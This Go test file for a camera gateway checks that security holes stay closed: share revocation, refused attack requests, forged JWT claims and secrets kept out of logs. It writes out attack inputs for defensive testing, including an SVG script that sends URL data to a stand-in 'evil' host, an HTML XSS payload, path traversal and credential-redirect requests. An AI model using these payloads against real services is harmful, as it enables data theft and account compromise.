package gateway

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/camgate/camgate/gateway/config"
	"github.com/camgate/camgate/internal/poll"
)

// Hole 4 end to end: a share's recipient watches over HLS; when the owner
// loses the grant that gave `share`, the recipient's open session ends
// (403 from its next request) and a new one is refused on RTSP too.
func TestShareEndsWhenOwnerLosesShare(t *testing.T) {
	n := startNode(t, t.TempDir())
	mustCall(t, n, "PUT", "/subjects/alice", `{"kind":"user","name":"Alice","email":"alice@example.com"}`, 200)
	mustCall(t, n, "PUT", "/subjects/bob", `{"kind":"user","name":"Bob","email":"bob@example.com"}`, 200)
	mustCall(t, n, "PUT", "/grants/g-alice", `{"subject":"alice","device":"cam1","actions":["live","share"]}`, 200)
	alice, bob := viewerToken(t, "alice"), viewerToken(t, "bob")

	// Asking for more than the owner has is refused, and nothing is stored.
	if code, out := n.callAs(t, alice, "POST", "/shares", `{"device":"cam1","recipient_email":"bob@example.com","actions":["live","download"]}`); code != 400 || !strings.Contains(fmt.Sprint(out), "actions") {
		t.Fatalf("share asking download from an owner without it: %d %v, want 400 naming actions", code, out)
	}
	code, out := n.callAs(t, alice, "POST", "/shares", `{"device":"cam1","recipient_email":"bob@example.com","actions":["live"]}`)
	if code != 201 {
		t.Fatalf("share: %d %v", code, out)
	}
	id := out["id"].(string)
	if code, out := n.callAs(t, bob, "POST", "/shares/"+id+"/accept", ""); code != 200 {
		t.Fatalf("accept: %d %v", code, out)
	}
	base := strings.TrimSuffix(n.api, "/api/v1")
	code, _, body := httpStatus(t, "GET", base+"/hls/cam1/index.m3u8?token="+bob, "", "")
	if code != 200 {
		t.Fatalf("bob plays the share over HLS: %d %s", code, body)
	}
	if n.g.Sessions().CountSubject("bob") != 1 {
		t.Fatal("bob's HLS session is not registered")
	}
	mustCall(t, n, "DELETE", "/grants/g-alice", "", 200)
	poll.Until(t, "bob's session to end with the owner's share right", func() bool { return n.g.Sessions().CountSubject("bob") == 0 })
	if code := rtspDescribe(t, n, "cam1", bob); code != 403 {
		t.Fatalf("bob on RTSP after the owner lost share: %d, want 403", code)
	}
}

// Attacks through the real HTTP edge: each must be refused with the named
// status and change nothing.
func TestAttackRequestsChangeNothing(t *testing.T) {
	n := startNode(t, t.TempDir())
	mustCall(t, n, "PUT", "/subjects/alice", `{"kind":"user","name":"Alice"}`, 200)
	mustCall(t, n, "PUT", "/sites/b", `{"name":"B"}`, 200)
	mustCall(t, n, "PUT", "/devices/ptzcam", `{"site":"hq","kind":"camera","source":"rtsp://cam:secret@10.0.0.9/live","ptz":{"onvif_url":"http://10.0.0.9/onvif","username":"admin","password":"hunter2"}}`, 200)
	base := strings.TrimSuffix(n.api, "/api/v1")
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil/?"+location.search)</script></svg>`
	cases := []struct {
		name, method, path, body, ctype string
		want                            int
		field                           string
	}{
		{"encoded slash in an id", "PUT", "/api/v1/sites/a%2F..%2Fb", `{"name":"x"}`, "", 400, "slash"},
		{"read-only alarm_until on create", "PUT", "/api/v1/devices/d2", `{"site":"hq","kind":"camera","source":"builtin:demo","alarm_until":"2099-01-01T00:00:00Z"}`, "", 400, "alarm_until"},
		{"read-only armed on create", "PUT", "/api/v1/sites/s2", `{"name":"S2","armed":true}`, "", 400, "armed"},
		{"read-only provider_allowed_until", "PUT", "/api/v1/orgs/o2", `{"name":"O","provider_allowed_until":"2099-01-01T00:00:00Z"}`, "", 400, "provider_allowed_until"},
		{"duplicate keys", "PUT", "/api/v1/grants/g2", `{"subject":"alice","device":"cam1","actions":["live"],"actions":["live","download"]}`, "", 400, "actions"},
		{"ONVIF URL repointed with the redacted password", "PUT", "/api/v1/devices/ptzcam", `{"site":"hq","kind":"camera","source":"rtsp://cam:********@10.0.0.9/live","ptz":{"onvif_url":"http://203.0.113.7/onvif","username":"admin","password":"********"}}`, "", 400, "ptz.password"},
		{"source host changed with the redacted password", "PUT", "/api/v1/devices/ptzcam", `{"site":"hq","kind":"camera","source":"rtsp://cam:********@203.0.113.7/live","ptz":{"onvif_url":"http://10.0.0.9/onvif","username":"admin","password":"********"}}`, "", 400, "source"},
		{"SVG media object", "POST", "/api/v1/devices/cam1/objects?kind=photo", svg, "image/svg+xml", 400, "image/jpeg"},
		{"HTML declared as PNG", "POST", "/api/v1/devices/cam1/objects?kind=photo", "<html><script>alert(1)</script></html>", "image/png", 400, "image/png"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before, _ := json.Marshal(n.g.Authz().Devices())
			code, _, body := httpStatusType(t, c.method, base+c.path, testAdminKey, c.body, c.ctype)
			if code != c.want || !strings.Contains(body, c.field) {
				t.Fatalf("%s %s: %d %s, want %d naming %q", c.method, c.path, code, body, c.want, c.field)
			}
			if after, _ := json.Marshal(n.g.Authz().Devices()); !bytes.Equal(after, before) {
				t.Fatalf("a refused request changed the devices:\n%s\n%s", before, after)
			}
		})
	}
	// Nothing else was created either.
	for _, p := range []string{"/sites/a", "/devices/d2", "/sites/s2", "/orgs/o2", "/grants/g2"} {
		if code, _ := n.call(t, "GET", p, ""); code != 404 {
			t.Errorf("GET %s after the refused writes: %d, want 404", p, code)
		}
	}
	// The RTSP source's password is not shown to API readers; the camera's
	// real password still works for the gateway.
	_, dev := n.call(t, "GET", "/devices/ptzcam", "")
	if s := fmt.Sprint(dev); strings.Contains(s, "secret") || strings.Contains(s, "hunter2") {
		t.Fatalf("device read shows credentials: %v", dev)
	}
	if d, _ := n.g.Authz().Device("ptzcam"); !strings.Contains(d.Source, "secret") || d.PTZ.OnvifURL != "http://10.0.0.9/onvif" {
		t.Fatalf("stored device changed: %+v", d)
	}
}

// Hole 13 through RTSP: a viewer token whose exp is a string, or with a
// second "sub", is refused like any bad token.
func TestTokensWithStringExpOrDuplicateClaimsAreRefused(t *testing.T) {
	n := startNode(t, t.TempDir())
	mustCall(t, n, "PUT", "/subjects/alice", `{"kind":"user","name":"Alice"}`, 200)
	mustCall(t, n, "PUT", "/grants/g-alice", `{"subject":"alice","device":"cam1","actions":["live"]}`, 200)
	exp := time.Now().Add(time.Hour).Unix()
	for name, payload := range map[string]string{
		"string exp":    fmt.Sprintf(`{"sub":"alice","exp":"%d"}`, exp),
		"duplicate sub": fmt.Sprintf(`{"sub":"mallory","exp":%d,"sub":"alice"}`, exp),
	} {
		t.Run(name, func(t *testing.T) {
			tok := signHS256(t, `{"alg":"HS256","typ":"JWT"}`, payload)
			if code := rtspDescribe(t, n, "cam1", tok); code != 401 {
				t.Fatalf("RTSP with a %s token: %d, want 401", name, code)
			}
		})
	}
	ok := signHS256(t, `{"alg":"HS256","typ":"JWT"}`, fmt.Sprintf(`{"sub":"alice","exp":%d}`, exp))
	if code := rtspDescribe(t, n, "cam1", ok); code != 200 {
		t.Fatalf("a well-formed token signed the same way: %d, want 200 (the test would prove nothing)", code)
	}
}

// Hole 11: at log_level debug, a malformed request carrying the admin key
// and a token in its URL must not put either in the log.
func TestMalformedRequestSecretsNotLogged(t *testing.T) {
	var buf syncBuffer
	cfg := func(c *config.Config) { c.LogLevel = "debug" }
	n := startNodeWithLogger(t, t.TempDir(), cfg, slog.New(slog.NewTextHandler(&buf, &slog.HandlerOptions{Level: slog.LevelDebug})))
	tok := viewerToken(t, "alice")
	addr := strings.TrimPrefix(strings.TrimSuffix(n.api, "/api/v1"), "http://")
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "GET /hls/cam1/index.m3u8?token=%s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nBroken header line without colon\r\n\r\n", tok, testAdminKey)
	reply := make([]byte, 512)
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	m, _ := c.Read(reply)
	c.Close()
	if !bytes.Contains(reply[:m], []byte("400")) {
		t.Fatalf("malformed request answered %q, want 400", reply[:m])
	}
	n.g.Close() // flush: fasthttp logs as the connection ends
	logs := buf.String()
	if strings.Contains(logs, testAdminKey) || strings.Contains(logs, tok) {
		t.Fatalf("a secret reached the log:\n%s", logs)
	}
}

func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// signHS256 signs a hand-written header and payload with the test secret,
// as a forger who holds a valid signing path but bends the JSON would.
func signHS256(t *testing.T, header, payload string) string {
	t.Helper()
	unsigned := b64(header) + "." + b64(payload)
	mac := hmac.New(sha256.New, []byte(testSecret))
	mac.Write([]byte(unsigned))
	return unsigned + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

func httpStatusType(t *testing.T, method, url, bearer, body, ctype string) (int, http.Header, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+bearer)
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, res.Header, string(b)
}
